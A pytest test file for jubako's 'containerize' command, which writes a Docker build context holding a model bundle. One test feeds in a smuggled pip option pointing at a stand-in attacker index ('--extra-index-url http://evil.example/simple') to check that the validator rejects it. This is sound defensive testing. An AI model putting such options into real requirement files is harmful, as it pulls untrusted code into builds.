"""`jubako containerize`: the build context it writes (no container engine needed here; the
image is built and run in tests/e2e/test_containers.py)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from jubako.containerize import dockerfile, image_ref, requirement_lines, write_context
from jubako.errors import ConfigError
from jubako.store import Store

JUBAKO = str(Path(sys.executable).with_name("jubako"))


def test_image_ref_is_the_bento_version() -> None:
    assert image_ref("mlp-onnx", "20261130-1", "") == "mlp-onnx:20261130-1"
    assert image_ref("mlp-onnx", "v2", "ghcr.io/acme/") == "ghcr.io/acme/mlp-onnx:v2"


def test_context_holds_the_bento_its_models_and_a_dockerfile(example_store: Store, tmp_path: Path) -> None:
    bento = example_store.bentos.get("mlp-onnx")
    lines = write_context(bento, example_store, tmp_path / "ctx", "jubako/runtime:test", "10001:10001")
    ctx = tmp_path / "ctx"
    assert (ctx / "bento" / "bento.yaml").read_bytes() == (bento.path / "bento.yaml").read_bytes()
    for ref in bento.manifest.models:  # the layout `jubako pull --output` writes
        name, version = ref.tag.split(":")
        assert (ctx / "bento" / "models" / name / version / "model.yaml").is_file()
    text = (ctx / "Dockerfile").read_text()
    assert text.splitlines()[1] == "FROM jubako/runtime:test"
    assert "COPY bento /bento" in text and "USER 10001:10001" in text
    assert text.index("USER root") < text.index("USER 10001:10001"), "runs as non-root in the end"
    assert '"dev.jubako.bento"' not in text and f"dev.jubako.bento=\"{bento.tag}\"" in text
    assert ("pip install" in text) == bool(lines)
    for path in (ctx / "bento").rglob("*"):  # the image's non-root user reads every file
        assert path.stat().st_mode & 0o004, path


def test_context_refuses_a_non_empty_folder(example_store: Store, tmp_path: Path) -> None:
    (tmp_path / "ctx").mkdir()
    (tmp_path / "ctx" / "x").write_text("x")
    with pytest.raises(ConfigError, match="not empty"):
        write_context(example_store.bentos.get("mlp-onnx"), example_store, tmp_path / "ctx", "base")


def test_requirements_are_installed_from_the_bento_wheels_when_it_carries_them(example_store: Store) -> None:
    m = example_store.bentos.get("mlp-onnx").manifest
    with_wheels = m.model_copy(update={"python": m.python.model_copy(update={
        "inferred": ["python-slugify==9.2.0"], "wheels": ["wheels/python_slugify-9.2.0-py3-none-any.whl"]})})
    text = dockerfile(with_wheels, "base", has_requirements=True)
    assert "--no-index --find-links /bento/wheels -r /opt/jubako/bento-requirements.txt" in text
    without = with_wheels.model_copy(update={"python": with_wheels.python.model_copy(update={"wheels": []})})
    assert "--no-index" not in dockerfile(without, "base", has_requirements=True)


def test_a_requirement_line_cannot_carry_pip_options(example_store: Store) -> None:
    """Lines come from a manifest anyone with push rights wrote: nothing but requirements."""
    m = example_store.bentos.get("mlp-onnx").manifest
    hostile = m.model_copy(update={"python": m.python.model_copy(update={
        "inferred": ["--extra-index-url http://evil.example/simple"]})})
    with pytest.raises(ConfigError, match="not valid"):
        requirement_lines(hostile)


def test_cli_context_only_writes_the_context(example_store: Store, tmp_path: Path) -> None:
    env = {**os.environ, "JUBAKO_HOME": str(example_store.home)}
    out = subprocess.run([JUBAKO, "containerize", "mlp-onnx", "--context-only", "--context", str(tmp_path / "c"),
                          "--base-image", "jubako/runtime:test", "--json"], env=env, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    result = json.loads(out.stdout)
    bento = example_store.bentos.get("mlp-onnx")
    assert result["image"] == f"mlp-onnx:{bento.tag.version}" and result["built"] is False
    assert (tmp_path / "c" / "Dockerfile").is_file()
    missing = subprocess.run([JUBAKO, "containerize", "mlp-onnx", "--context-only"], env=env,
                             capture_output=True, text=True, timeout=120)
    assert missing.returncode == 1 and "needs --context" in missing.stderr
